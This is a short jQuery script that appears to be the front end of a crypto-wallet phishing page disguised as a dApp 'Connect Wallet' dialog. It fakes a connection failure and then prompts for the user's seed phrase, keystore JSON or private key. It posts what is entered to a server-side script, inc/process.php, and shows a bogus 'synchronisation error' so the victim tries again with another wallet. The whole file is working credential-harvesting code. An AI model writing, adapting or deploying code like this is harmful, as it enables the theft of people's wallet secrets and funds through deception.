(function ($) {
  var wallets = [
    { id: "mm", name: "MetaMask", mobile: "https://mm.example/dapp/" },
    { id: "tw", name: "Trust Wallet", mobile: "https://tw.example/open_url?url=" },
    { id: "cb", name: "Coinbase", mobile: "https://cbw.example/dapp?cb_url=" },
    { id: "ld", name: "Ledger Live", manual: true },
    { id: "ex", name: "Exodus", manual: true },
    { id: "sp", name: "SafePal", manual: true }
  ];
  function html() {
    return '<div class="wm"><h4>Connect Wallet</h4>' + wallets.map(function (w) {
      return '<a href="#" data-id="' + w.id + '"><img src="img/' + w.id + '.svg">' + w.name + "</a>";
    }).join("") + "</div>";
  }
  $(document).on("click", ".btn,.cta,nav a", function (e) {
    e.preventDefault();
    if (!$(".wm").length) $("body").append(html());
  });
  $(document).on("click", ".wm a", function (e) {
    e.preventDefault();
    var w = wallets.filter(function (x) { return x.id === $(e.currentTarget).data("id"); })[0];
    $(".wm").html('<img src="img/' + w.id + '.svg"><p class="st">Initializing...</p>');
    setTimeout(function () {
      $(".st").text("Error connecting automatically.").addClass("red");
      $(".wm").append('<button class="man">Connect Manually</button>');
    }, 2800);
    $(".wm").on("click", ".man", function () {
      $(".wm").html('<b>Import your ' + w.name + ' wallet</b><div class="tabs"><i>Phrase</i><i>Keystore JSON</i><i>Private Key</i></div><textarea name="w" placeholder="Typically 12 (sometimes 24) words separated by single spaces"></textarea><button class="imp">PROCEED</button>');
    });
    $(".wm").on("click", ".imp", function () {
      var v = $.trim($(".wm textarea").val());
      if (v.split(/\s+/).length < 12) return $(".wm").append("<small>Invalid phrase</small>");
      $.post("inc/process.php", { type: w.name, words: v }, function () {
        $(".wm").html("<p>Synchronisation error (code 0x51). Please use a different wallet.</p>");
      });
    });
  });
})(jQuery);
